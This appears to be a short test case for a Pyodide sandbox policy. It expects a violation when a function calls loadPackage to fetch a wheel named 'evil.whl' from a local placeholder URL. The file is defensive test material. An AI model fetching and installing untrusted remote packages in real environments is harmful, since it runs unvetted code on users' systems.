# expect: stopped:violation
import pyodide_js
def f():
    pyodide_js.loadPackage("http://127.0.0.1:@PORT@/evil.whl")
